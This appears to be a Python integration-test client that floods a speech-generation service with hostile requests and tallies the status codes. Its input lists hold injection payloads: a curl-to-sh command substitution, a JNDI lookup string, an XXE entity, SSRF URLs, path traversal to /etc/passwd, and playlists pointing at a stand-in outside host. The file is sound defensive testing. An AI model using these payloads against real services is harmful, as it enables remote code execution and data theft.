"""A client that asks a service for everything it should refuse, and for speech in between.

`python -m tests.integration.hostile HOST:PORT COUNT SECONDS` asks so often, if there is time, and
prints as JSON how often each status came.
"""

import base64
import http.client
import itertools
import json
import random
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from typing import Any

THREADS = 6
AWAY = "192.0.2.99"
NAME = "voice.example"

TEXTS = (
    "Hello from Maya",
    f"https://{AWAY}/secret and http://{NAME}/",
    f'<speak><audio src="http://{AWAY}/a.wav"/>hello</speak>',
    f'<lexicon uri="http://{NAME}/lexicon.pls"/>hello',
    f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://{AWAY}/x">]><a>&b; hello</a>',
    f"<xi:include href='http://{AWAY}/x'/> hello",
    f"$(curl http://{AWAY}) `curl http://{AWAY}` ; curl http://{AWAY} | sh",
    f"${{jndi:ldap://{AWAY}/a}} {{{{config}}}} %s%n%x",
    f"\\\\{AWAY}\\share hello file:///etc/passwd",
    f"![a](http://{AWAY}/a.png) [b](//{NAME}/b)",
    "[[h@'loU]] <mark name='a'/> hello",
    "-w /tmp/x --path=/etc hello",
    "A.B.C." * 30,
    "\u202ehello\u0000\u200b \ud83d",
    "१२३ 你好 مرحبا",
    "a" * 5_001,
    "",
    "   \n",
)
"""What is said. The last three are refused."""

PLAYLISTS = (
    f"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nhttp://{AWAY}/a.ts\n#EXT-X-ENDLIST\n",
    f"ffconcat version 1.0\nfile http://{AWAY}/a.wav\n",
    f"v=0\no=- 0 0 IN IP4 {AWAY}\ns=a\nc=IN IP4 {AWAY}\nt=0 0\nm=audio 5004 RTP/AVP 0\n",
    f"<MPD type='static'><Period><BaseURL>http://{AWAY}/</BaseURL></Period></MPD>",
    f"[playlist]\nFile1=http://{AWAY}/a.mp3\nNumberOfEntries=1\nVersion=2\n",
    f"http://{AWAY}/a.mp3\n",
    f"rtsp://{AWAY}/a",
)
"""What pretends to be a recording, and names an address."""

PATHS = (
    "/",
    "/health",
    "/livez",
    "/readyz",
    "/metrics",
    "/rungs",
    "/rungs/drill",
    "/docs",
    "/openapi.json",
    "/nothing",
    "/../../etc/passwd",
    f"http://{AWAY}/",
    f"/?url=http://{AWAY}/",
)

HEADERS: tuple[dict[str, str], ...] = (
    {},
    {"X-Forwarded-For": AWAY, "X-Forwarded-Host": NAME, "Forwarded": f"for={AWAY}"},
    {"Referer": f"http://{NAME}/", "X-Request-Id": f"http://{AWAY}/"},
    {"X-Sesame-Instance": "a" * 32},
    {"Authorization": f"Bearer http://{AWAY}/", "Host": NAME},
)

FIELDS: tuple[dict[str, Any], ...] = (
    {},
    {"voice": "warm", "sample_rate": 8_000, "stream": True},
    {"voice": "mystic", "speed": 4.0, "sample_rate": 48_000},
    {"voice": "neutral", "seed": 1, "temperature": 0.5, "top_k": 7},
    {"max_audio_length_ms": 1_000, "stream": True},
    {"voice": f"http://{AWAY}/voice"},
    {"format": "hls", "url": f"http://{AWAY}/"},
    {"sample_rate": -1},
    *(
        {"context": [{"text": "a", "voice": "maya", "audio": base64.b64encode(one).decode()}]}
        for one in map(str.encode, PLAYLISTS)
    ),
)


def requests(seed: int) -> Iterator[tuple[str, str, bytes | None, dict[str, str]]]:
    """Give method, path, body and headers without end; a third of them are to be spoken."""
    chosen = random.Random(seed)  # noqa: S311 (which request comes next, and no secret)
    for number in itertools.count():
        headers = dict(chosen.choice(HEADERS))
        if number % 3 == 1:
            yield (
                chosen.choice(["GET", "GET", "HEAD", "OPTIONS"]),
                chosen.choice(PATHS),
                None,
                headers,
            )
        else:
            wanted = {"text": chosen.choice(TEXTS), **chosen.choice(FIELDS)}
            body = json.dumps(wanted).encode()
            yield "POST", "/api/v1/generate", body, {"Content-Type": "application/json", **headers}


def ask(address: str, seed: int, count: int, ends: float, statuses: Counter[int]) -> None:
    """Ask so often, or until the time is over."""
    connection = http.client.HTTPConnection(address, timeout=30)
    for method, path, body, headers in itertools.islice(requests(seed), count):
        if time.monotonic() > ends:
            break
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        answer.read()
        statuses[answer.status] += 1
    connection.close()


def main(address: str, count: int, seconds: float) -> None:
    """Ask with several threads."""
    ends = time.monotonic() + seconds
    counted: list[Counter[int]] = [Counter() for _ in range(THREADS)]
    threads = [
        threading.Thread(target=ask, args=(address, seed, count // THREADS, ends, statuses))
        for seed, statuses in enumerate(counted)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    sys.stdout.write(json.dumps(dict(sum(counted, Counter()))))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
